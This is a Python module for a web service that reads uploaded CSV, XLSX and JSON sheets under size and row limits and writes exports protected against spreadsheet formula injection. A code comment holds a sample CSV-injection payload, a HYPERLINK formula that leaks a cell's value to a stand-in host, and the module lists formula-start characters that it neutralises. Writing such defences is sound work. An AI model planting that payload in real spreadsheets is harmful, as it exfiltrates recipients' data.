"""Reading the files people bring: CSV (UTF-8, UTF-8 with BOM, or GB18030/GBK as Excel in
China writes it), XLSX and JSON, into rows keyed by our column names; and writing the files
we hand out, with no text a spreadsheet would take for a formula.

A file that is not a sheet at all (binary junk, empty, over the size or row limit, no known
header) raises `SheetError` with one clear message, and nothing is read from it. Row numbers
are a sheet's: the header is row 1, so `rows[i]` is row i + 2.

Sheets are read as streams, never whole: only the columns of the first row that we know are
kept, reading stops at the row limit + 1 or at a run of `MAX_BLANK_RUN` blank rows (the end
of the sheet, whatever it declares), and a cell longer than `MAX_CELL` characters is refused
by its row. So a small hostile file costs no more than a full legitimate one
(docs/performance.md, "Hostile sheets").
"""
from __future__ import annotations

import csv
import io
import json
from datetime import date, datetime

MAX_BYTES = 5 * 1024 * 1024
MAX_ROWS = 20_000
MAX_CELL = 32_767        # Excel's own limit for a cell's text
MAX_BLANK_RUN = 1_000    # this many blank rows in a row end the sheet


class SheetError(Exception):
    """`reason`: the word a page translates (kernel.errors), for refusals worth naming."""

    def __init__(self, message: str, reason: str = "sheet_unreadable"):
        super().__init__(message)
        self.reason = reason


class RowError(Exception):
    """One bad row of a sheet: the column at fault (our key), a `reason` the pages say in
    their language (gateway/static/common.js, with the row, column and value), the cell's
    `value` and whatever else their words need (`params`: another row, a count, a name).
    The English message is the API's and the logs'."""

    def __init__(self, column: str, message: str, reason: str, value=None, **params):
        super().__init__(message)
        self.column, self.message, self.reason = column, message, reason
        self.value = None if value is None else str(value)
        self.params = params

    def entry(self, row: int | None) -> dict:
        """The error as an import report lists it (kernel.schemas.RowErrorOut)."""
        return {"row": row, "column": self.column, "reason": self.reason,
                "value": self.value, "params": self.params, "message": self.message}


def read_rows(data: bytes, filename: str, columns: dict[str, str], *,
              max_bytes: int = MAX_BYTES, max_rows: int = MAX_ROWS) -> list[dict]:
    """Rows of `data` as dicts keyed by `columns[header]` (headers matched case-blind).

    Columns not in `columns` are ignored; a header row with none of them is an error.
    """
    if not data:
        raise SheetError(f"{filename} is empty")
    if len(data) > max_bytes:
        raise SheetError(f"{filename} is {len(data) / 1048576:.1f} MiB; the limit is "
                         f"{max_bytes / 1048576:.0f} MiB")
    name = filename.lower()
    if data[:4] == b"PK\x03\x04" or name.endswith(".xlsx"):
        table = _xlsx(data, filename)
    elif name.endswith(".json") or data.lstrip(b"\xef\xbb\xbf \t\r\n")[:1] in (b"[", b"{"):
        return _limit(_json(data, filename, columns), max_rows, filename)
    else:
        table = _csv(data, filename)
    return _keyed(table, columns, filename, max_rows)


def _limit(rows, max_rows, filename):
    if len(rows) > max_rows:
        raise SheetError(f"{filename} has {len(rows)} rows; the limit is {max_rows}",
                         reason="sheet_too_many_rows")
    return rows


def _norm(header) -> str:
    return "".join(str(header or "").split()).lower()


def _blank(row) -> bool:
    """No cell but empty ones (`_cell` of each is "")."""
    return all(v is None or (isinstance(v, str) and not v.strip()) for v in row)


def _keyed(table, columns: dict[str, str], filename, max_rows) -> list[dict]:
    """The rows of `table` (an iterator of lists, header first) under our column names.

    Blank rows within the sheet are rows (the import reports them); trailing ones are not,
    and `MAX_BLANK_RUN` of them end the sheet. At `max_rows` + 1 rows we stop and refuse."""
    header = next(table, None)
    rows, blanks = [], 0
    if header is None or _blank(header):
        if header is None or all(_blank(row) for row in _until_blank_run(table)):
            raise SheetError(f"{filename} has no rows")
    lookup = {_norm(k): v for k, v in columns.items()}
    known = [(i, lookup[_norm(h)]) for i, h in enumerate(header) if _norm(h) in lookup]
    if not known:
        raise SheetError(f"{filename}: no known column in the first row (expected some of: "
                         f"{', '.join(sorted(set(columns)))})", reason="sheet_no_known_column")
    for number, row in enumerate(table, start=2):
        if _blank(row):
            blanks += 1
            if blanks >= MAX_BLANK_RUN:
                break
            continue
        if len(rows) + blanks + 1 > max_rows:
            raise SheetError(f"{filename} has more than {max_rows} rows; the limit is "
                             f"{max_rows}", reason="sheet_too_many_rows")
        rows.extend({key: "" for _, key in known} for _ in range(blanks))
        blanks = 0
        rows.append(_fields(row, known, number, filename))
    return rows


def _fields(row, known, number: int, filename: str) -> dict:
    """A CSV or XLSX row's known cells as text, with `cell_text`'s quote taken off."""
    fields, width = {}, len(row)
    for i, key in known:
        text = _text(row[i], number, filename) if i < width else ""
        fields[key] = _unquote(text) if text[:1] == "'" else text
    return fields


def _until_blank_run(table):
    """The rows after a blank header, as far as the first long run of blank rows."""
    blanks = 0
    for row in table:
        blanks = blanks + 1 if _blank(row) else 0
        if blanks >= MAX_BLANK_RUN:
            return
        yield row


def _text(value, number: int, filename: str) -> str:
    text = _cell(value)
    if len(text) > MAX_CELL:
        raise SheetError(f"{filename}: row {number}: a cell is longer than {MAX_CELL} "
                         "characters", reason="sheet_cell_too_long")
    return text


def _cell(value) -> str:
    """A cell as text: numbers without a trailing .0 (phones typed as numbers), dates ISO."""
    if isinstance(value, str):  # most cells
        return value.strip()
    if value is None:
        return ""
    if isinstance(value, float) and value.is_integer():
        return str(int(value))
    if isinstance(value, (datetime, date)):
        return value.isoformat()
    return str(value).strip()


def _decode(data: bytes, filename: str) -> str:
    if b"\x00" in data[:4096]:
        raise SheetError(f"{filename} is not a text sheet (it has binary content)")
    for encoding in ("utf-8-sig", "gb18030"):
        try:
            return data.decode(encoding)
        except UnicodeDecodeError:
            continue
    raise SheetError(f"{filename} is neither UTF-8 nor GBK text")


def _csv(data: bytes, filename: str):
    """Rows as the csv module reads them, one at a time. A field over the csv module's limit
    (131,072 characters) or a NUL past the first 4 KiB is a refusal naming the row."""
    text = _decode(data, filename)
    try:  # only the delimiter: the sniffer takes the apostrophes `cell_text` adds for quotes
        delimiter = csv.Sniffer().sniff(text[:4096], delimiters=",\t;").delimiter
    except csv.Error:
        delimiter = ","
    reader = csv.reader(_lines(text), csv.excel, delimiter=delimiter)
    number = 0
    while True:
        number += 1
        try:
            yield next(reader)
        except StopIteration:
            return
        except csv.Error as exc:
            if "field limit" in str(exc):
                raise SheetError(f"{filename}: row {number}: a cell is longer than "
                                 f"{MAX_CELL} characters", reason="sheet_cell_too_long") from None
            raise SheetError(f"{filename}: row {number} is not CSV ({exc})") from None


def _lines(text: str):
    """`text` a line at a time, as the csv module wants it (io.StringIO would hold a copy at
    four bytes a character)."""
    start = 0
    while start < len(text):
        end = text.find("\n", start) + 1 or len(text)
        yield text[start:end]
        start = end


def _xlsx(data: bytes, filename: str):
    from kernel import xlsx

    try:
        yield from xlsx.rows(data, MAX_CELL)
    except xlsx.XlsxError as exc:
        raise SheetError(f"{filename} {exc}", reason=exc.reason) from None


def _json(data: bytes, filename: str, columns: dict[str, str]) -> list[dict]:
    try:
        payload = json.loads(_decode(data, filename))
    except ValueError as exc:
        raise SheetError(f"{filename} is not valid JSON ({exc})") from None
    except RecursionError:
        raise SheetError(f"{filename}: JSON nested too deeply to be rows of a sheet",
                         reason="sheet_too_deep") from None
    if isinstance(payload, dict):
        payload = next((v for v in payload.values() if isinstance(v, list)), None)
    if not isinstance(payload, list) or not all(isinstance(r, dict) for r in payload):
        raise SheetError(f"{filename}: JSON must be a list of objects (one per row)")
    lookup = {_norm(k): v for k, v in columns.items()}
    return [{lookup[_norm(k)]: (v if isinstance(v, list) else _text(v, number, filename))
             for k, v in row.items() if _norm(k) in lookup}
            for number, row in enumerate(payload, start=2)]


# What a spreadsheet takes for the start of a formula (OWASP, "CSV Injection"): a member
# named =HYPERLINK("http://x/?leak="&A1,"点此领奖") must reach finance as that text. A line
# feed too: XML reads a carriage return back as one, and the quote must still come off.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\n")


def cell_text(value):
    """A value for a cell of a file we hand out. Text that would start a formula gets a
    leading apostrophe, as OWASP recommends; so does text whose apostrophes already stand
    before such a character, so that reading our own file back (`_unquote`) gives exactly
    the text written ("-1" → "'-1" → "-1"; "'=x" → "''=x" → "'=x"). Other values as given."""
    if isinstance(value, str) and value.lstrip("'")[:1] in FORMULA_START and value.lstrip("'"):
        return "'" + value
    return value


def _unquote(text: str) -> str:
    """`cell_text` undone, for the sheets we wrote that come back (a question export)."""
    if text[:1] == "'" and text.lstrip("'")[:1] in FORMULA_START and text.lstrip("'"):
        return text[1:].strip()
    return text


def sheet_row(sheet, values) -> list:
    """`values` as cells for `sheet.append` (openpyxl, normal or write-only): every text is
    a text cell, never a formula nor an error value (`#N/A`), and neutralised by `cell_text`."""
    from openpyxl.cell import WriteOnlyCell

    cells = []
    for value in values:
        if isinstance(value, str):
            value = WriteOnlyCell(sheet, cell_text(value))
            value.data_type = "s"
        cells.append(value)
    return cells


def write_rows(rows: list[dict], headers: list[str], fmt: str) -> tuple[bytes, str]:
    """Rows as a file people open: `csv` (UTF-8 with a BOM, so Excel reads Chinese right),
    `xlsx` or `json`. Returns the bytes and the media type. CSV and XLSX texts go through
    `cell_text`; JSON is for programs, exact."""
    if fmt == "json":
        body = json.dumps([{h: row.get(h, "") for h in headers} for row in rows],
                          ensure_ascii=False, indent=1)
        return body.encode("utf-8"), "application/json"
    if fmt == "csv":
        out = io.StringIO()
        writer = csv.writer(out, lineterminator="\r\n")
        writer.writerow(headers)
        for row in rows:
            writer.writerow([cell_text(row.get(h, "")) for h in headers])
        return out.getvalue().encode("utf-8-sig"), "text/csv; charset=utf-8"
    if fmt == "xlsx":
        from openpyxl import Workbook

        book = Workbook(write_only=True)
        sheet = book.create_sheet()
        sheet.append(headers)
        for row in rows:
            sheet.append(sheet_row(sheet, [row.get(h, "") for h in headers]))
        out = io.BytesIO()
        book.save(out)
        return out.getvalue(), ("application/vnd.openxmlformats-officedocument."
                                "spreadsheetml.sheet")
    raise ValueError(f"unknown format {fmt!r} (csv, xlsx or json)")


def read_upload(content_b64: str, filename: str, columns: dict[str, str]) -> list[dict]:
    """An uploaded file (base64 over RPC) read as `read_rows` does; a file that is not a
    sheet is a BadInput naming the field `file`, so it changes nothing. Read off the eventlet
    hub (`_off_the_hub`)."""
    import base64
    import binascii

    from kernel.errors import BadInput

    try:
        data = base64.b64decode(content_b64 or "", validate=True)
        return _off_the_hub(read_rows, data, filename or "", columns)
    except SheetError as err:
        raise BadInput(str(err), fields={"file": [str(err)]}, reason=err.reason) from None
    except (binascii.Error, ValueError) as err:
        raise BadInput(str(err), fields={"file": [str(err)]},
                       reason="sheet_unreadable") from None


def _off_the_hub(function, *args):
    """`function(*args)` in a real thread when eventlet runs this process. In the embedded
    platform every service shares one eventlet hub, so a sheet parsed on it froze them all
    for as long as it took; in a thread the interpreter switches back to the hub every few
    milliseconds (sys.getswitchinterval), so other requests go on (docs/performance.md,
    "Hostile sheets"). Without eventlet (a script, a unit test) it runs here."""
    from eventlet import patcher, tpool

    if not patcher.is_monkey_patched("thread"):
        return function(*args)
    return tpool.execute(function, *args)
